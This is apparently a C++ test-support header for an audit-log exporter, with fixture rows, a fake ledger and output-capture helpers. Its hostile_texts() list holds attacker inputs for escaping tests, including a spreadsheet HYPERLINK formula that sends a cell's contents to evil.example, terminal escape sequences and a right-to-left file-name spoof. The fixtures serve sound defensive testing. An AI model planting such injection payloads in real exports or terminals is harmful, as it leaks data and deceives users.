// rows_support.hpp - entries for exporters, without a ledger.
#pragma once

#include <audit/export.hpp>
#include <audit/ledger.hpp>

#include <cstdint>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "export/lines.hpp"
#include "export/rows.hpp"

namespace audit::test {

class VectorRows final : public exports::Rows {
 public:
  explicit VectorRows(std::vector<Entry> entries) : entries_(std::move(entries)) {}

  bool next() override { return ++at_ <= entries_.size(); }

  const Entry& entry() const override { return entries_[at_ - 1]; }

  void restart(bool /*with_payload*/) override { at_ = 0; }

 private:
  std::vector<Entry> entries_;
  std::size_t at_ = 0;
};

// 2026-08-01T12:00:00Z.
inline constexpr std::int64_t kNoonNs = 1'785'585'600'000'000'000;

// An entry without any field and payload; its hash is 00 01 02 ... 1f.
inline Entry bare_entry(std::uint64_t seq) {
  Entry entry;
  entry.seq = seq;
  entry.received = from_nanoseconds(kNoonNs);
  for (std::size_t i = 0; i < entry.hash.bytes.size(); ++i) {
    entry.hash.bytes[i] = static_cast<std::uint8_t>(i);
  }
  return entry;
}

inline constexpr std::string_view kBareHash =
    "000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f";

inline Entry with_payload(std::uint64_t seq, std::string payload) {
  Entry entry = bare_entry(seq);
  entry.payload_state = Entry::Payload::present;
  entry.payload = std::move(payload);
  return entry;
}

inline Entry with_text(Field field, std::string_view text) {
  Entry entry = bare_entry(0);
  entry.envelope.set_text(field, text);
  return entry;
}

inline exports::Provenance some_ledger() {
  exports::Provenance from;
  from.ledger_id = "00112233445566778899aabbccddeeff";
  from.head.origin = "example.com/agents";
  from.head.size = 1'204'311;
  return from;
}

using WriteFunction = std::uint64_t (*)(exports::Rows&, const exports::Provenance&,
                                        const ExportOptions&, const Sink&);

// What a format writes, in one piece.
inline std::string written(WriteFunction write, std::vector<Entry> entries,
                           const ExportOptions& options = {}) {
  std::string all;
  VectorRows rows(std::move(entries));
  write(rows, some_ledger(), options, [&](std::string_view piece) { all.append(piece); });
  return all;
}

// The same of a format that is lines.
inline std::string written(exports::MakeLines make, std::vector<Entry> entries,
                           const ExportOptions& options = {}) {
  std::string all;
  VectorRows rows(std::move(entries));
  const exports::Provenance from = some_ledger();
  const auto lines = make({from.ledger_id, from.head.origin}, options);
  exports::write_lines(rows, *lines, [&](std::string_view piece) { all.append(piece); });
  return all;
}

// Texts an attacker would send. The last one is not UTF-8.
inline const std::vector<std::string>& hostile_texts() {
  static const std::vector<std::string> texts = {"line\nbreak",
                                                 "quote\"comma,",
                                                 "=HYPERLINK(\"http://evil.example/?\"&A1)",
                                                 "\x1b[2J\x1b]0;owned\x07",
                                                 "safe\u202etxt.exe",
                                                 std::string("nul\0nul", 7),
                                                 "back\\slash",
                                                 "\u009b31m C1",
                                                 "a\u200bzero\ufeffwidth",
                                                 "\U0001f600 and \u4f60",
                                                 "bad\xff\xc0\x80utf8\xed\xa0\x80"};
  return texts;
}

}  // namespace audit::test
